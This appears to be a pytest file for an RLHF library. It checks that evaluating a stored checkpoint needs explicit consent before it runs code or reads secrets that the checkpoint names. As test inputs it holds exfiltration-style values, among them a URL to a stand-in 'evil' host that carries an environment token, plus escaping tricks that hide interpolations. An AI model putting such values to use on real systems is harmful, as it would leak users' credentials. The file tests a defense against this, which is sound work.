"""An evaluation runs no code and reads no secret that a checkpoint names, unless the user consents."""

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from omegaconf import OmegaConf

import rlhf
from rlhf.checkpoint.commit.manifest import describe, write_manifest
from rlhf.compose import composition
from rlhf.config import Config
from rlhf.config.library import Library
from rlhf.config.resolved import to_yaml
from rlhf.config.secrets import as_literals
from rlhf.errors import EXIT_USER_ERROR
from rlhf.evaluate.__main__ import main
from rlhf.evaluate.target_settings import plan
from rlhf.evaluate.targets import find_target
from rlhf.storage.files import write_file
from tests.support.launching import TINY_POLICY
from tests.support.published import make_manifest
from tests.support.refusals import says, user_error

LIBRARY = Library.find(None)
Stored = Callable[..., str]


@pytest.fixture
def stored(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Stored:
    """Make a checkpoint whose run had these settings, and return its name."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "val.jsonl").write_text(json.dumps({"prompt": "1 + 1", "answer": "2"}))
    for name in ("f", "Game"):
        (tmp_path / f"{name}.py").write_text(f"class {name}: ...\n" if name == "Game" else f"def {name}(*_): ...\n")

    def make(*overrides: str, raw: dict[str, object] | None = None) -> str:
        settings = ["recipes=offline", "data.val_files=val.jsonl", *overrides]
        tree = OmegaConf.create(to_yaml(composition(settings, LIBRARY).resolved()))
        for key, value in (raw or {}).items():
            OmegaConf.update(tree, key, value, merge=False)
        root = tmp_path / "global_step_1"
        root.mkdir()
        files = [write_file(root, "config.yaml", [OmegaConf.to_yaml(tree).encode()])]
        manifest = make_manifest(1, describe(files), {})
        write_manifest(root, replace(manifest, versions={"rlhf": rlhf.__version__}))
        return "global_step_1"

    return make


def evaluated(target: str, *overrides: str, trusts: bool = False) -> Config:
    (planned,) = plan([find_target(target)], list(overrides), LIBRARY, trusts_settings=trusts)
    return planned.config


CODE = [
    ("reward.functions", "[f.py:f]", "[exact_match]"),
    ("env.classes", "[Game.py:Game]", "[]"),
    ("env.command", "'python Game.py'", "null"),
    ("reward.pass_env", "[TOKEN]", "[]"),
    ("reward.network", "true", "false"),
    ("reward.writable", "[/home]", "[]"),
    ("reward.kwargs", "{a: 1}", "{}"),
    ("model.trust_remote_code", "true", "false"),
    ("rollout.servers.urls", "['http://host:1']", "[]"),
    ("rollout.engine_kwargs.vllm", "{worker_extension_cls: a.b}", "{}"),
]


@pytest.mark.parametrize(("key", "value", "other"), CODE)
def test_code_and_rights_of_a_checkpoint_need_consent(stored, key, value, other):
    raw = {key: OmegaConf.create(f"x: {value}").x}
    target = stored(raw=raw)
    error = user_error(evaluated, target)
    says(error, target, f"  {key}=", "--trust-settings", "in the command")
    assert error.count("\n  ") == 1
    # Both remedies: the message is gone, and with consent the stored value is used.
    evaluated(target, f"{key}={other}")
    if key not in ("rollout.servers.urls", "rollout.engine_kwargs.vllm"):  # need other settings
        config = evaluated(target, trusts=True)
        assert OmegaConf.select(OmegaConf.structured(config), key) == raw[key]


def test_a_converter_of_rows_needs_consent(stored):
    target = stored("data.train_files=val.jsonl", "data.custom_cls.path=f.py", "data.custom_cls.name=f")
    says(user_error(evaluated, target), "data.custom_cls.path=f.py", "--trust-settings")
    assert evaluated(target, trusts=True).data.custom_cls.spec == "f.py:f"


def test_the_command_asks_for_consent(stored, capsys):
    target = stored(raw={"reward.functions": ["gone.py:f"]})
    assert main([target]) == EXIT_USER_ERROR
    says(capsys.readouterr().err, "reward.functions=[gone.py:f]", "--trust-settings")
    assert main([target, "--trust-settings"]) == EXIT_USER_ERROR
    says(capsys.readouterr().err, target, "gone.py", "Restore the file")


def test_all_settings_without_consent_are_named_once_also_for_a_base_model(stored):
    target = stored("reward.functions=[f.py:f]", "reward.pass_env=[TOKEN]", "reward.network=true")
    targets = [find_target(str(TINY_POLICY)), find_target(target)]
    error = user_error(plan, targets, ["reward.network=false"], LIBRARY)
    says(error, "reward.functions=[f.py:f]", "reward.pass_env=[TOKEN]")
    assert "reward.network" not in error
    assert error.count("--trust-settings") == 1


def test_part_of_a_mapping_is_no_consent_to_the_rest(stored):
    target = stored(raw={"reward.kwargs": {"a": 1, "b": 2}})
    says(user_error(evaluated, target, "reward.kwargs.a=3"), "reward.kwargs={a:1,b:2}")


def test_a_group_entry_replaces_stored_code(stored):
    assert evaluated(stored("reward.functions=[f.py:f]"), "reward=exact_match").reward.functions == ["exact_match"]


@pytest.mark.parametrize(
    "raw",
    [
        {"data.val_files": "http://evil/${oc.env:EVALUATION_TOKEN}"},
        {"model.path": r"\\${oc.env:EVALUATION_TOKEN}"},
        {"data.reasoning_gym.config": {"a": ["${oc.env:EVALUATION_TOKEN}"]}},
        {"algorithm.gamma": "${oc.decode:${oc.env:EVALUATION_TOKEN}}"},
    ],
)
def test_a_variable_of_the_environment_needs_consent(stored, monkeypatch, raw):
    monkeypatch.setenv("EVALUATION_TOKEN", "secret")
    error = user_error(evaluated, stored(raw=raw))
    (key,) = raw
    says(error, f"  {key}=", "${oc.env:EVALUATION_TOKEN}", "--trust-settings")
    assert "secret" not in error


def test_escaped_backslashes_do_not_hide_an_interpolation(monkeypatch):
    monkeypatch.setenv("EVALUATION_TOKEN", "secret")
    for text in (r"\\${oc.env:EVALUATION_TOKEN}", r"\${oc.env:EVALUATION_TOKEN}", "${oc.env:EVALUATION_TOKEN}"):
        assert "secret" not in OmegaConf.create({"a": as_literals(text)}).a


@pytest.mark.parametrize(
    "recipe", ["recipes=env_guess", "recipes=agent_calculator", "recipes=mbpp_qwen_7b", "reward=code_tests"]
)
def test_what_is_bundled_needs_no_consent(stored, recipe):
    config = evaluated(stored(recipe, "trainer.device=cpu"))
    assert config.reward.functions or config.env.used


def test_unused_training_code_may_be_missing(stored):
    estimator = {"algorithm.adv_estimator": "gone.py:f", "actor.policy_loss.loss_mode": "gone.py:f"}
    target = stored(raw={**estimator, "rollout.n": 1, "algorithm.pass_at_k": 3, "actor.policy_loss.kl_cov_ratio": 0.1})
    config = evaluated(target)
    assert config.algorithm.adv_estimator == "reinforce_plus_plus"
    assert config.actor.policy_loss.loss_mode == "vanilla"


def test_unused_secrets_of_a_run_need_no_consent(stored):
    raw = {"trainer.callback_kwargs": {"key": "${oc.env:GONE}"}, "tracking.alerts.webhook": "${oc.env:GONE}"}
    assert evaluated(stored(raw=raw)).trainer.callback_kwargs == {}
